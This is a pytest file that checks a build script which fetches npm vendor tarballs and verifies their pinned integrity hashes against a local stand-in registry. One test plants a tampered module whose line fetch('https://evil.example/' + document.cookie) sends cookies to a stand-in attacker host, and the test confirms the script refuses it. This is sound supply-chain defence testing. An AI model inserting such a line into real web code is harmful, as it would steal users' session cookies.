"""python/docker/fetch_web_vendor.py run as the build runs it, against `npm_registry_standin`: a local HTTP
server on 127.0.0.1 standing in for the npm registry (the real one is a third-party service a test must not
depend on), reached through NPM_CONFIG_REGISTRY. A tarball or file that does not match its pins is refused and
nothing is written; a second run downloads nothing; the real vendor.json pins what the page imports."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import subprocess
import sys
import tarfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from support.site_fixtures import FixtureSite, Route

from ragserver.web.files import STATIC_DIR

SCRIPT = Path(__file__).resolve().parents[1] / "docker" / "fetch_web_vendor.py"
MANIFEST = STATIC_DIR.parent / "vendor.json"
NPM = "https://registry.npmjs.org/"
TARBALL_PATH = "/widget/-/widget-1.2.3.tgz"
MODULE = b"export default function widget() { return 42; }\n"
LICENCE = b"MIT License\n\nCopyright (c) the widget authors\n"


def tarball(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def integrity(data: bytes) -> str:
    return "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()


GOOD_TARBALL = tarball({"package/dist/widget.esm.min.js": MODULE, "package/LICENSE": LICENCE})


def manifest(tmp_path: Path, **overrides: str) -> Path:
    entry = {
        "package": "widget",
        "version": "1.2.3",
        "tarball": NPM + TARBALL_PATH.lstrip("/"),
        "integrity": integrity(GOOD_TARBALL),
        "file": "package/dist/widget.esm.min.js",
        "license": "package/LICENSE",
        "serve_as": "widget.esm.min.js",
        "sha256": hashlib.sha256(MODULE).hexdigest(),
    } | overrides
    path = tmp_path / "vendor.json"
    path.write_text(json.dumps({"files": [entry]}))
    return path


@pytest.fixture
def npm_registry_standin() -> Iterator[FixtureSite]:
    with FixtureSite({TARBALL_PATH: Route(GOOD_TARBALL, content_type="application/octet-stream")}) as site:
        yield site


def fetch(dest: Path, manifest_path: Path, registry: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "NPM_CONFIG_REGISTRY": registry}
    command = [sys.executable, str(SCRIPT), str(dest), "--manifest", str(manifest_path)]
    return subprocess.run(command, env=env, capture_output=True, text=True, timeout=120, check=False)


def test_fetches_verifies_and_then_keeps_the_file(tmp_path: Path, npm_registry_standin: FixtureSite) -> None:
    dest = tmp_path / "vendor"
    pins = manifest(tmp_path)
    first = fetch(dest, pins, npm_registry_standin.base + "/")
    assert first.returncode == 0, first.stderr
    assert "widget@1.2.3 widget.esm.min.js: fetched" in first.stdout
    assert (dest / "widget.esm.min.js").read_bytes() == MODULE
    assert (dest / "widget.LICENSE").read_bytes() == LICENCE
    assert sorted(p.name for p in dest.iterdir()) == ["widget.LICENSE", "widget.esm.min.js"]

    again = fetch(dest, pins, npm_registry_standin.base)
    assert again.returncode == 0 and "already there" in again.stdout, again.stdout + again.stderr
    assert npm_registry_standin.hits[TARBALL_PATH] == 1

    (dest / "widget.esm.min.js").write_bytes(b"export default 'tampered';\n")
    repaired = fetch(dest, pins, npm_registry_standin.base)
    assert repaired.returncode == 0 and "fetched" in repaired.stdout, repaired.stderr
    assert (dest / "widget.esm.min.js").read_bytes() == MODULE
    assert npm_registry_standin.hits[TARBALL_PATH] == 2


def test_a_corrupted_tarball_is_refused_and_nothing_written(tmp_path: Path, npm_registry_standin: FixtureSite) -> None:
    evil = tarball({"package/dist/widget.esm.min.js": b"fetch('https://evil.example/' + document.cookie)\n"})
    npm_registry_standin.set(TARBALL_PATH, Route(evil, content_type="application/octet-stream"))
    dest = tmp_path / "vendor"
    result = fetch(dest, manifest(tmp_path), npm_registry_standin.base)
    assert result.returncode == 1
    assert "widget@1.2.3: the tarball from" in result.stderr and "fails its integrity check" in result.stderr
    assert npm_registry_standin.base + TARBALL_PATH in result.stderr
    assert list(dest.iterdir()) == []


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        ({"sha256": "0" * 64}, "package/dist/widget.esm.min.js has sha256"),
        ({"file": "package/dist/missing.js"}, "the tarball has no package/dist/missing.js"),
        ({"integrity": "sha1-abc"}, "only sha512 integrity is accepted"),
        ({"tarball": NPM + "widget/-/widget-9.9.9.tgz"}, "cannot download"),
    ],
)
def test_pins_that_do_not_hold_are_clear_errors(
    tmp_path: Path, npm_registry_standin: FixtureSite, overrides: dict[str, str], message: str
) -> None:
    dest = tmp_path / "vendor"
    result = fetch(dest, manifest(tmp_path, **overrides), npm_registry_standin.base)
    assert result.returncode == 1
    assert result.stderr.startswith("fetch_web_vendor: error: ") and message in result.stderr, result.stderr
    assert "Traceback" not in result.stderr
    assert not (dest / "widget.esm.min.js").exists()


def test_an_unreadable_manifest_is_a_clear_error(tmp_path: Path) -> None:
    broken = tmp_path / "vendor.json"
    broken.write_text('{"files": [{"package": "x"}]}')
    result = fetch(tmp_path / "vendor", broken, "http://127.0.0.1:9")
    assert result.returncode == 1 and f"cannot read the manifest {broken}" in result.stderr, result.stderr


def test_the_real_pins_are_the_contracts_files() -> None:
    """The page imports these two names; each comes from the npm registry with a sha512 integrity."""
    entries = json.loads(MANIFEST.read_text())["files"]
    assert [(e["package"], e["serve_as"]) for e in entries] == [
        ("socket.io-client", "socket.io.esm.min.js"),
        ("markdown-it", "markdown-it.esm.min.mjs"),
    ]
    for entry in entries:
        assert entry["tarball"] == f"{NPM}{entry['package']}/-/{entry['package']}-{entry['version']}.tgz"
        assert entry["integrity"].startswith("sha512-") and len(base64.b64decode(entry["integrity"][7:])) == 64
        assert len(bytes.fromhex(entry["sha256"])) == 32
